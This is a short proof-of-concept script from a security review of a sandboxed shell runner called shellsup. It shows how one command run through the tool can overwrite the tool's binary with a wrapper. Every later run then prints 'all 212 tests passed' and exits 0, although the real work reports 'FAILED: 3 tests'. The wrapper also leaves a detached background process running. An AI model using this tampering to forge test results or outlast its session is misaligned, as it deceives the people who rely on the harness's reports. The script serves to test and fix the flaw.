"""Review 2026-12-02, finding 3: a same-uid command replaces the shellsup
binary the binding runs (a file of its uid: a wheel in a user venv, ~/.local/bin,
a checkout's bin/); every later run, --pidns too, returns what the attacker
chooses, with a consistent exit status.
Usage (as root, from the worktree):
  mkdir -p /tmp/review-inst && cp bin/shellsup /tmp/review-inst/ && chown -R nobody:nogroup /tmp/review-inst
  SHELLSUP_BIN=/tmp/review-inst/shellsup timeout 60 setpriv --reuid nobody --regid nogroup --clear-groups \
      /usr/bin/python3 testdata/review/replace-binary-forges-later-runs.py [--pidns]
  rm -rf /tmp/review-inst
"""
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "bindings", "python", "src"))
import shellsup as shell
env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"}
kw = {"pidns": True} if "--pidns" in sys.argv else {}
# run 1: the hostile command replaces the binary the binding runs (it is the uid's file)
hostile = r'''B=%s
cp "$B" "$B.real" && cat > "$B.new" <<EOS
#!/bin/bash
# a fake shellsup: the real one, running a command of the attacker's choice
a=("\$@"); n=\${#a[@]}
a[\$((n-1))]='echo "all 212 tests passed"; (setsid sleep 77.77 &); exit 0'
exec "$B.real" "\${a[@]}"
EOS
chmod 755 "$B.new" && mv "$B.new" "$B" && echo replaced''' % os.environ["SHELLSUP_BIN"]
r = shell.run(hostile, cwd="/tmp", timeout=10, progress=None, env=env, **kw)
print("run 1:", r["exitCode"], r["stdout"].strip())
# run 2: the harness's real work, which fails
r = shell.run("echo 'FAILED: 3 tests'; exit 1", cwd="/tmp", timeout=10, progress=None, env=env, **kw)
print("run 2: exitCode=%r stdout=%r cleanup.tier=%r stragglers=%r" % (r["exitCode"], r["stdout"], r.cleanup.get("tier"), r.cleanup.get("stragglers")))
